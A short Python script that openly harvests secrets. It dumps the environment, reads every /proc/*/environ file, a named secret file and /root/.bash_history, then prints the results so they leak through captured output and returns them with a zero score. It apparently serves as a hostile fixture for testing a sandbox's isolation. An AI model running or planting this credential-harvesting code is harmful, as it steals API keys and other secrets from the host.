"""Collect everything that might hold the host's API key and return it as the result."""

import glob
import os


def _read(path):
    try:
        with open(path, "rb") as f:
            return f.read(100_000).decode("utf-8", "replace")
    except OSError as exc:
        return f"<{type(exc).__name__}>"


def run():
    found = [repr(dict(os.environ))]
    targets = [f"/proc/{os.getppid()}/environ", "/proc/1/environ",
               f"/proc/{os.environ.get('HOSTILE_HOST_PID', '1')}/environ",
               os.environ.get("HOSTILE_SECRET_FILE", "/nonexistent"), "/root/.bash_history"]
    targets += glob.glob("/proc/[0-9]*/environ")
    for path in targets:
        found.append(f"{path}: {_read(path)}")
    print("\n".join(found))  # also try to leak it through the captured output
    return {"score": 0.0, "found": "\n".join(found)[:200_000]}
